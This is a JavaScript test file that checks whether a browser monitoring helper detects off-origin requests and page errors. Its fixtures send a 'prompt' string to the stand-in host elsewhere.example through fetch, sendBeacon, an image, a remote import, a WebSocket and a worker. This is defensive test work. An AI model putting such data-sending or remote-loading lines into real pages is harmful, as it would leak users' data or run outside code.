// The watch sees what it is there to see: on pages that misbehave on purpose.

import assert from "node:assert/strict";
import test from "node:test";
import { openPage } from "./support/browser.mjs";
import { host } from "./support/host.mjs";

/** Opens a page without a policy that runs this script, and gives it time. */
async function misbehave(t, script, worker = "") {
  const { address } = await host(t, (path) => {
    if (path === "/bad.html") return { body: `<!doctype html><link rel="icon" href="data:,"><script>${script}</script>` };
    return path === "/bad.js" ? { body: worker } : undefined;
  });
  const { page, watch } = await openPage(t);
  await page.goto(`${address}bad.html`);
  await page.waitForTimeout(500);
  return watch;
}

for (const [what, script, worker] of [
  ["a fetch", `fetch("http://elsewhere.example/count", { method: "POST", body: "prompt" }).catch(() => {})`],
  ["a beacon", `navigator.sendBeacon("http://elsewhere.example/count", "prompt")`],
  ["a picture", `new Image().src = "http://elsewhere.example/count?prompt"`],
  ["a script", `import("http://elsewhere.example/count.js").catch(() => {})`],
  ["a socket", `new WebSocket("ws://elsewhere.example/count")`],
  ["a fetch by a worker", `new Worker("./bad.js")`, `fetch("http://elsewhere.example/count").catch(() => {})`],
]) {
  test(`${what} to another origin is seen`, async (t) => {
    const watch = await misbehave(t, script, worker);
    assert.ok(watch.offOrigin.some((url) => url.includes("elsewhere.example")), JSON.stringify(watch.offOrigin));
    assert.throws(() => watch.assertQuiet(), /another origin/);
    watch.forget();
  });
}

for (const [what, script] of [
  ["an error in the console", `console.error("broken")`],
  ["an exception", `throw new Error("broken")`],
  ["a promise that nobody catches", `Promise.reject(new Error("broken"))`],
]) {
  test(`${what} is seen`, async (t) => {
    const watch = await misbehave(t, script);
    assert.throws(() => watch.assertQuiet(), /errors in the page/);
    watch.forget();
  });
}

test("an expected fault that does not come is a fault", async (t) => {
  const watch = await misbehave(t, "");
  watch.expect(/broken/);
  assert.throws(() => watch.assertQuiet(), /expected/);
  watch.forget();
});
